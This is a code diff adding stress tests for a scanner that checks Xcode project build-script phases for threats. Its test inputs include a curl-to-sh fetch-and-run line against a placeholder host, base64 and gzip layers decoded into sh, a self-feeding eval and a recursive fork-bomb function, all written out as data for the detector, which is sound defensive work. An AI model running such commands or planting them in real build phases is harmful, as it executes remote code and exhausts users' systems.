@@ -6,12 +6,17 @@
 #include <sys/stat.h>
 #include <unistd.h>
 
+#include <zlib.h>
+
 #include <chrono>
 #include <climits>
+#include <functional>
 #include <random>
 #include <string>
 
+#include "platform/Base64.h"
 #include "support/Process.h"
+#include "support/ProjectText.h"
 #include "support/TempTree.h"
 
 namespace quillon::hostile {
@@ -192,6 +197,112 @@ TEST(Hostile, HundredThousandFilesInOneFolder) {
     }
     ::close(dir);
     EXPECT_EQ(scan(tree), kClean);
+}
+
+// Scripts built against the shell reader and evaluator: each must stay within the analysis's
+// budgets, and a budget that runs out on obfuscation is itself a finding.
+TEST(Hostile, ScriptsAgainstTheShellAnalysis) {
+    constexpr int kEither = -2;
+    const std::string stage = "echo \"$(curl -fsS https://cdn.example.invalid/a)\" | sh";
+    const struct {
+        const char* name;
+        std::function<std::string()> script;
+        int verdict;
+    } cases[] = {
+        {"commandSubstitutionsNested100000Deep",
+         [] { return repeat("$(", 100000) + "echo" + repeat(")", 100000); }, kThreat},
+        {"parenthesesNested200000Deep",
+         [] { return repeat("(", 200000) + "true" + repeat(")", 200000); }, kEither},
+        {"unterminatedHereDocumentsAndStrings",
+         [] { return repeat("cat <<EOF$RANDOM\n", 20000) + repeat("\"'$'`${", 50000); }, kClean},
+        {"gzipBombIntoAShell",
+         [] {
+             // 64 MiB of zeros: a kilobyte-sized stream that decompresses past every limit.
+             std::string zeros(64u << 20, '\0');
+             std::string packed(1u << 20, '\0');
+             z_stream z{};
+             deflateInit2(&z, 9, Z_DEFLATED, 31, 9, Z_DEFAULT_STRATEGY);
+             z.next_in = reinterpret_cast<Bytef*>(zeros.data());
+             z.avail_in = static_cast<uInt>(zeros.size());
+             z.next_out = reinterpret_cast<Bytef*>(packed.data());
+             z.avail_out = static_cast<uInt>(packed.size());
+             deflate(&z, Z_FINISH);
+             packed.resize(z.total_out);
+             deflateEnd(&z);
+             return "echo " + platform::encodeBase64(packed) + " | base64 -D | gunzip | sh";
+         },
+         kThreat},
+        {"fortyBase64Layers",
+         [&] {
+             std::string script = stage;
+             for (int i = 0; i < 40; ++i)
+                 script = "echo " + platform::encodeBase64(script) + " | base64 -D | sh";
+             return script;
+         },
+         kThreat},
+        {"selfFeedingEval", [] { return std::string("a='eval \"$a\"'; eval \"$a\""); }, kThreat},
+        {"recursiveFunctions", [] { return std::string("f(){ f; f; }; f"); }, kThreat},
+        {"variableDoubledSixtyFourTimes",
+         [] { return "a=xy" + repeat("; a=$a$a", 64) + "; echo $a"; }, kClean},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.name);
+        testing::TempTree tree;
+        testing::ProjectSpec spec;
+        spec.phases.push_back({"Run Script", c.script()});
+        tree.write("App.xcodeproj/project.pbxproj", testing::projectText(spec));
+        const int status = scan(tree, "buildscripts");
+        if (c.verdict == kEither) {
+            EXPECT_TRUE(status == kClean || status == kThreat) << status;
+        } else {
+            EXPECT_EQ(status, c.verdict);
+        }
+    }
+}
+
+TEST(Hostile, ProjectFilesAgainstTheReader) {
+    const struct {
+        const char* name;
+        std::function<std::string()> text;
+        int verdict;
+    } cases[] = {
+        {"dictionariesNested200000Deep",
+         [] { return repeat("{a=", 200000) + repeat("};", 200000); }, kClean},
+        {"twoHundredThousandPhases",
+         [] {
+             testing::ProjectSpec spec;
+             for (int i = 0; i < 200000; ++i)
+                 spec.phases.push_back({"P", "echo hi"});
+             return testing::projectText(spec);
+         },
+         kClean},
+        {"settingsThatReferToEachOther",
+         [] {
+             testing::ProjectSpec spec;
+             for (int i = 0; i < 2000; ++i) {
+                 spec.settings.emplace_back("S" + std::to_string(i),
+                                            "$(S" + std::to_string((i + 1) % 2000) + ")$(S" +
+                                                std::to_string((i + 7) % 2000) + ")");
+             }
+             spec.phases.push_back({"Run Script", "echo \"$S0\""});
+             return testing::projectText(spec);
+         },
+         kClean},
+        {"truncatedInsideAScript",
+         [] {
+             testing::ProjectSpec spec;
+             spec.phases.push_back({"Run Script", "echo 6563686f | xxd -p -r | sh"});
+             const std::string text = testing::projectText(spec);
+             return text.substr(0, text.find("| sh") + 4);
+         },
+         kThreat},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.name);
+        testing::TempTree tree;
+        tree.write("App.xcodeproj/project.pbxproj", c.text());
+        EXPECT_EQ(scan(tree, "buildscripts"), c.verdict);
+    }
 }
 
 }  // namespace
